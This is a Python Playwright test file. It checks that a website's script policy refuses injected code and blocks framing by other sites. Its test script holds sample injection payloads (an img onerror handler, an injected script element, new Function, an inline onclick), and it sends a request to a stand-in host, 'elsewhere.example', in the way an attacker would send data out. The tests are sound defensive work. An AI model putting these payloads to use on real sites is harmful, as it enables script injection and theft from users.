"""The policy of scripts, as the browser enforces it: what nobody of ours wrote does not run.

Every browser test runs under it (``make serve`` sends the headers of ``site/_headers``), and
each refusal stands on the console, where the `visitor` fixture would find it.
"""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page

PATHS = ("", "en/regions/", "estimer/", "en/organizations/check/")

# What a stranger's text would try, once it were in the page; resolves to what was refused.
ATTEMPTS = """
async () => {
  const refused = [];
  addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective));
  const attempt = (work) => { try { work(); } catch (error) { refused.push(error.name); } };
  attempt(() => { document.body.innerHTML += "<img src=x onerror='window.ran = 1'>"; });
  attempt(() => {
    const script = document.createElement("script");
    script.textContent = "window.ran = 2";
    document.body.append(script);
  });
  // Not at once: what a test's own script does is not held to the page's policy.
  setTimeout(() => attempt(() => { new Function("window.ran = 3")(); }));
  attempt(() => { document.body.setAttribute("onclick", "window.ran = 4"); });
  attempt(() => new Worker(URL.createObjectURL(new Blob(["0"]))));
  const image = new Image();
  image.src = "http://elsewhere.example/?answers";
  document.body.append(image);
  await fetch("http://elsewhere.example/?answers").catch(({ name }) => refused.push(name));
  document.body.click();
  await new Promise((resolve) => setTimeout(resolve, 100));
  return { ran: window.ran ?? null, refused };
}
"""


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    """A page whose doings nobody holds against it: here they are what is looked for."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


@pytest.mark.parametrize("path", PATHS)
def test_an_injected_script_is_refused(page, address, path):
    page.goto(address + path)
    found = page.evaluate(ATTEMPTS)
    assert found["ran"] is None
    assert found["refused"].count("TypeError") >= 4, found
    assert {"require-trusted-types-for", "img-src", "connect-src"} <= set(found["refused"]), found


def test_the_page_itself_carries_the_policy(page, address, site):
    """For a host that sends no headers."""
    page.route("**/*", lambda route: route.fulfill(path=site / "index.html", headers={}))
    page.goto(address)
    found = page.evaluate(ATTEMPTS)
    assert found["ran"] is None
    assert "connect-src" in found["refused"]


@pytest.mark.parametrize("path", PATHS)
def test_no_other_site_can_show_a_page_in_a_frame(page, address, path):
    body = f'<iframe src="{address}{path}"></iframe>'
    page.route(
        "http://stranger.example/",
        lambda route: route.fulfill(content_type="text/html", body=body),
    )
    page.goto("http://stranger.example/")
    page.wait_for_load_state("networkidle")
    (frame,) = page.main_frame.child_frames
    assert frame.url.startswith("chrome-error:")
